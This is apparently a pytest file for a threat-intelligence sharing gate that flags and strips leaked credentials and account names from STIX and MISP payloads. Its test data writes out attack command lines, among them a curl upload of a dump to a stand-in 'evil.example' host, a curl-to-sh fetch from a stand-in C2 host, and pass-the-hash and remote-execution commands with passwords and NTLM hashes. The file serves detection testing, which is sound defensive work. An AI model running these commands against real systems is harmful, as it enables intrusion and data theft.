"""Leaked credentials and account names the seventh attack found allowed and the gate reads now
(docs/gate.md, "Seventh round: leaked credentials and account names"; `credentials`, `accounts`):
NTLM and Digest logons in HTTP headers, WordPress login cookies, tools' credential switches on
command lines, connection strings, `domain\\user` typed in lower or mixed case, mailboxes and crontabs
under /var, and OpenCTI's `Threat-Actor-Individual`. Each is planted in STIX (custom property,
description, nested, observed file name, pattern, an HTTP request header) and MISP (attribute,
comment, object, proposal, event report, a `process` object's command line): the gate does not allow
it, names the object and the property, and the stripped payload no longer holds the value. Clean
look-alikes (system accounts, placeholders, Windows paths, escapes, other tools' `-u`) still go."""

from __future__ import annotations

import base64
import struct

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gate_util import bundle, indicator, misp_doc, misp_event, raw, run
from test_gate_forms_round4 import (MISP_PLACES, STIX_PLACES, assert_allowed, assert_caught, plant_misp,
                                    plant_stix)
from wivcheck.engine import Engine, load_library
from wivcheck.engine.gate import accounts, credentials
from wivcheck.engine.gate.personal_text import scan


@pytest.fixture(scope="module")
def engine():
    return Engine(load_library())


def ntlm_authenticate(user: str, domain: str = "ACME", host: str = "LAPTOP01", nt: bytes = b"\x11" * 24,
                      flags: int = 0xE2888215) -> str:
    """The base64 of an NTLM AUTHENTICATE message ([MS-NLMP] 2.2.1.3) with these fields (UTF-16LE)."""
    user_b, domain_b, host_b = (s.encode("utf-16-le") for s in (user, domain, host))
    offset, payload, fields = 72, b"", []
    for part in (b"\x00" * 24, nt, domain_b, user_b, host_b, b""):
        fields.append(struct.pack("<HHI", len(part), len(part), offset + len(payload)))
        payload += part
    msg = (b"NTLMSSP\x00" + struct.pack("<I", 3) + b"".join(fields) + struct.pack("<I", flags)
           + b"\x0a\x00\x63\x45\x00\x00\x00\x0f" + payload)
    return base64.b64encode(msg).decode()


def spnego(ntlm_b64: str) -> str:
    """An NTLM message inside a SPNEGO negTokenResp (`Authorization: Negotiate <base64>`)."""
    inner = base64.b64decode(ntlm_b64)
    token = b"\xa1\x82" + struct.pack(">H", len(inner) + 8) + b"\x30\x82" + struct.pack(">H", len(inner) + 4) \
        + b"\xa2\x82" + struct.pack(">H", len(inner)) + inner
    return base64.b64encode(token).decode()


# the tester's form: a type-3 message whose descriptors are all zero, its names after the header
BROKEN_NTLM = ("TlRMTVNTUAADAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAEEAQwBNAEUAagBkAG"
               "UAdgByAGkAZQBzAEwAQQBQAFQATwBQADAAMQA=")

# (text, the value the stripped payload must not hold, personal?)
LEAKED = [
    ("NTLM " + ntlm_authenticate("pjansen"), ntlm_authenticate("pjansen"), True),
    ("Negotiate " + spnego(ntlm_authenticate("mbakker")), spnego(ntlm_authenticate("mbakker")), True),
    ('Digest username="jdevries", realm="intranet", nonce="dcd98b7102dd2f0e8b11d0f600bfb0c093", uri="/", '
     'response="6629fae49393a05397450978507c4ef1"', "jdevries", True),
    ("psexec.exe \\\\10.1.2.3 -u kvisser -p Winter2024! cmd.exe", "kvisser", True),
    ("net use Z: \\\\fs01\\finance /user:lsmit Zomer2024! /persistent:no", "lsmit", True),
    ("curl -u hdekker:Zomer2024 -T dump.zip https://files.evil.example/", "hdekker", True),
    ("mysql -u tmeijer -pZomer2024 hr", "tmeijer", True),
    ("sshpass -p Zomer2024 ssh wdegroot@10.0.0.5", "wdegroot", True),
    ("smbclient //fs01/c$ -U acme/bmulder%Zomer2024", "bmulder", True),
    ("xfreerdp /u:sbos /p:Zomer2024 /v:10.0.0.7", "sbos", True),
    ("wmic /node:10.0.0.8 /user:avos /password:Zomer2024 process call create cmd", "avos", True),
    ("sekurlsa::pth /user:rkok /domain:acme /ntlm:cc36cf7a8514893efccd332446158b1a", "rkok", True),
    ("wmiexec.py acme/ejacobs:Zomer2024!@10.1.2.3", "ejacobs", True),
    ("evil-winrm -i 10.0.0.9 -u fhendriks -H cc36cf7a8514893efccd332446158b1a", "fhendriks", True),
    ("Server=db01.acme.local;Database=HR;User Id=gvandam;Password=Zomer2024!;", "gvandam", True),
    ("jdbc:oracle:thin:mvanleeuwen/Zomer2024@db01:1521:orcl", "mvanleeuwen", True),
]
ACCOUNTS = [
    ("NTLM " + BROKEN_NTLM, BROKEN_NTLM),
    ("NTLM " + ntlm_authenticate("cdejong", nt=b""), ntlm_authenticate("cdejong", nt=b"")),
    ("wp-settings=x; wordpress_logged_in_abc=jvandenberg%7C1738400000%7Cabc", "jvandenberg"),
    ("runas /user:ACME\\nbrouwer cmd.exe", "nbrouwer"),
    ("Logon observed for acme\\jdevries from 10.1.2.3", "acme\\jdevries"),
    ("Logon observed for ACME\\Jan.deVries from 10.1.2.3", "Jan.deVries"),
    ("Spool /var/mail/ypeters was read", "/var/mail/ypeters"),
    ("crontab /var/spool/cron/crontabs/pjansen modified", "pjansen"),
]
CLEAN = [
    "psexec \\\\10.1.2.3 -u administrator -p x cmd.exe", "psexec -s -i cmd.exe", "python -u script.py",
    "git push -u origin main", "sort -u hosts.txt", "mysql -u root -pSecret", "curl -s https://c2.evil.example | sh",
    "crackmapexec smb 10.0.0.0/24 -u users.txt -p passwords.txt", "net use Z: \\\\fs01\\share",
    "runas /user:administrator cmd.exe", "psexec -u <user> -p <password> cmd", "curl -u %USERNAME%:%PASSWORD% x",
    "net use * /user:$USER", "NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAKAGFKAAAADw==",
    "NTLM " + ntlm_authenticate("", nt=b""), "NTLM " + ntlm_authenticate("Administrator"),
    'Digest username="admin", realm="x", response="6629fae49393a05397450978507c4ef1"',
    "The SHA-256 digest of the dropper", "wordpress_test_cookie=WP%20Cookie%20check", "the wordpress_ plugin",
    "Data Source=db01;Integrated Security=SSPI", "Server=db01;User ID=sa;Password=x", "c:\\windows\\system32",
    "HKLM\\Software\\Microsoft", "system32\\cmd.exe", "src\\main", "printf(\"error\\nretry\")",
    "$env:USERPROFILE\\Desktop", "ACME\\Domain Admins", "NT AUTHORITY\\SYSTEM", "Windows\\System32",
    "/var/spool/cron/crontabs", "/var/spool/cron/root", "/var/mail/$USER", "/var/log/mail.log",
    "python3 exploit.py -u http://target/admin.php -p 8080",
]


def _credential_findings(text: str) -> list:
    return [f for f in scan(text) if f.category == "account_names"]


@pytest.mark.parametrize("text,value,personal", LEAKED)
def test_a_leaked_credential_is_read_as_personal(text, value, personal):
    kinds = {f.kind for f in _credential_findings(text)}
    assert "personal" in kinds, (text, scan(text))


@pytest.mark.parametrize("text,value", ACCOUNTS)
def test_an_account_alone_is_read_as_possible(text, value):
    found = _credential_findings(text)
    assert found and all(f.kind == "possible" for f in found), (text, found)


@pytest.mark.parametrize("text", CLEAN)
def test_system_accounts_placeholders_paths_and_other_tools_are_no_credential(text):
    assert not _credential_findings(text), (text, _credential_findings(text))


@pytest.mark.parametrize("where", STIX_PLACES)
@pytest.mark.parametrize("text,value", [(t, v) for t, v, _ in LEAKED[2:6]] + ACCOUNTS[2:7])
def test_a_credential_or_account_in_stix_is_named_and_stripped(engine, where, text, value):
    doc, key, prop = plant_stix(where, text)
    assert_caught(engine, doc, key, prop, value)


@pytest.mark.parametrize("where", MISP_PLACES)
@pytest.mark.parametrize("text,value", [(t, v) for t, v, _ in LEAKED[3:5] + LEAKED[14:16]] + ACCOUNTS[4:8])
def test_a_credential_or_account_in_misp_is_named_and_stripped(engine, where, text, value):
    doc, key, prop = plant_misp(where, text)
    assert_caught(engine, doc, key, prop, value)


def _http_request(header: str, value: str) -> tuple[dict, str]:
    ip = raw("ipv4-addr", value="203.0.113.9")
    obj = raw("network-traffic", protocols=["tcp", "http"], dst_port=80, dst_ref=ip["id"], extensions={
        "http-request-ext": {"request_method": "GET", "request_value": "/",
                             "request_header": {header: [value], "Host": ["intranet"]}}})
    del obj["created"], obj["modified"]                 # a cyber-observable: no created or modified
    return bundle(indicator(), obj, ip), obj["id"]


@pytest.mark.parametrize("header,value,secret", [
    ("Authorization", "NTLM " + BROKEN_NTLM, BROKEN_NTLM),
    ("Authorization", "NTLM " + ntlm_authenticate("pjansen"), ntlm_authenticate("pjansen")),
    ("Proxy-Authorization", "Negotiate " + spnego(ntlm_authenticate("mbakker")), spnego(ntlm_authenticate("mbakker"))),
    ("Authorization", LEAKED[2][0], "jdevries"),
    ("Cookie", ACCOUNTS[2][0], "jvandenberg")])
def test_a_logon_in_an_http_request_header_is_named_and_stripped(engine, header, value, secret):
    doc, key = _http_request(header, value)
    assert_caught(engine, doc, key, "extensions.http-request-ext.request_header", secret)


def test_an_anonymous_ntlm_logon_and_a_negotiate_message_go(engine):
    doc, _ = _http_request("Authorization", "NTLM " + ntlm_authenticate("", nt=b""))
    assert_allowed(engine, doc)
    doc, _ = _http_request("Authorization", "NTLM TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAKAGFKAAAADw==")
    assert_allowed(engine, doc)


def test_a_process_command_line_in_a_misp_object_is_read(engine):
    doc = misp_doc(misp_event())
    uid = "b55fe029-e0ad-4101-b887-f42588becf51"
    doc["Event"]["Object"] = [{"name": "process", "meta-category": "misc",
                               "uuid": "669c206d-e3ca-4545-8253-9a1aaa9caab4",
                               "Attribute": [{"uuid": uid, "type": "text", "object_relation": "command-line",
                                              "category": "Other",
                                              "value": "psexec.exe \\\\10.1.2.3 -u jdevries -p Zomer2024! cmd"},
                                             {"uuid": "e07125d7-1284-4cff-9dbf-635455be154c", "type": "text",
                                              "object_relation": "name", "category": "Other", "value": "psexec.exe"}]}]
    assert_caught(engine, doc, uid, "value", "jdevries")


@pytest.mark.parametrize("text", ["psexec -s -i cmd.exe", "python -u script.py", "c:\\windows\\system32",
                                  "HKLM\\Software\\Microsoft", "/var/log/mail.log", "sort -u hosts.txt"])
def test_clean_look_alikes_go_in_stix_and_misp(engine, text):
    doc, _, _ = plant_stix("custom", text)
    assert_allowed(engine, doc)
    doc, _, _ = plant_misp("attribute", text)
    assert_allowed(engine, doc)


# -- OpenCTI's individual types --------------------------------------------------------------------------

@pytest.mark.parametrize("kind,props", [
    ("threat-actor", {"name": "wazawaka", "threat_actor_types": ["crime-syndicate"],
                      "x_opencti_type": "Threat-Actor-Individual"}),
    ("threat-actor", {"name": "wazawaka", "x_opencti_type": "threat_actor_individual"}),
    ("identity", {"name": "wazawaka", "identity_class": "organization", "x_opencti_type": "Individual"})])
def test_opencti_individual_types_are_a_person(engine, kind, props):
    obj = raw(kind, **props)
    r = run(engine, bundle(indicator(), obj))
    assert r.decision.decision != "allow"
    named = {o.id: o.findings for o in r.objects}
    assert any(f.startswith("x_opencti_type") for f in named[obj["id"]]), named[obj["id"]]


def test_an_opencti_group_type_is_no_individual(engine):
    obj = raw("threat-actor", name="Wizard Spider", threat_actor_types=["crime-syndicate"],
              x_opencti_type="Threat-Actor-Group")
    r = run(engine, bundle(indicator(), obj))
    assert not any(f.startswith("x_opencti_type") for o in r.objects for f in o.findings)


# -- the readings directly ------------------------------------------------------------------------------

def test_the_ntlm_reading_distinguishes_response_account_anonymous_and_unreadable():
    msg = base64.b64decode
    assert credentials._authenticate(msg(ntlm_authenticate("pjansen")))[0] == "personal"
    assert credentials._authenticate(msg(ntlm_authenticate("pjansen", nt=b"")))[0] == "possible"
    assert credentials._authenticate(msg(ntlm_authenticate("pjansen", flags=0)))[0] == "personal"  # OEM bytes
    assert credentials._authenticate(msg(ntlm_authenticate("", nt=b""))) is None
    assert credentials._authenticate(msg(BROKEN_NTLM))[0] == "possible"
    assert credentials._authenticate(b"NTLMSSP\x00\x03\x00\x00\x00" + b"\xff" * 60)[0] == "possible"


def test_domain_user_forms():
    said = "an account name as DOMAIN\\user"
    for text in ("ACME\\jdevries", "acme\\jdevries", "ACME\\Jan.deVries", "acme\\\\jdevries", "user: acme\\p.jansen"):
        assert said in accounts.scan(text), text
    for text in ("acme\\tjansen", "ACME\\JDEVRIES", "Projects\\Report", "SYSTEM32\\cmd.exe", "docs\\readme",
                 "acme\\notepad.exe", "c:\\users", "foo\\x41bar", "ACME\\Policies"):
        assert said not in accounts.scan(text), text


@given(st.binary(max_size=300))
@settings(max_examples=300, deadline=None)
def test_any_ntlm_message_is_read_without_raising(data):
    blob = b"NTLMSSP\x00\x03\x00\x00\x00" + data
    said = credentials._authenticate(blob)
    assert said is None or said[0] in ("personal", "possible")
    credentials.scan("Authorization: NTLM " + base64.b64encode(blob).decode())


_NAMES = st.from_regex(r"[a-z]{2,10}", fullmatch=True).filter(
    lambda n: accounts.counted(n) and n not in credentials._NOT_ACCOUNTS)


@given(_NAMES, st.from_regex(r"[A-Za-z0-9!@#]{6,16}", fullmatch=True).filter(
    lambda p: credentials._password(p)))
@settings(max_examples=150, deadline=None)
def test_any_account_with_its_password_on_a_command_line_is_personal(name, password):
    for text in (f"psexec \\\\10.0.0.1 -u {name} -p {password} cmd", f"curl -u {name}:{password} https://x.example",
                 f"xfreerdp /u:{name} /p:{password} /v:h", f"net use \\\\fs\\c$ {password} /user:{name}"):
        assert ("personal", "a login with its password on a command line (a leaked credential)") \
            in [(k, w) for k, w, _ in credentials.scan(text)], text
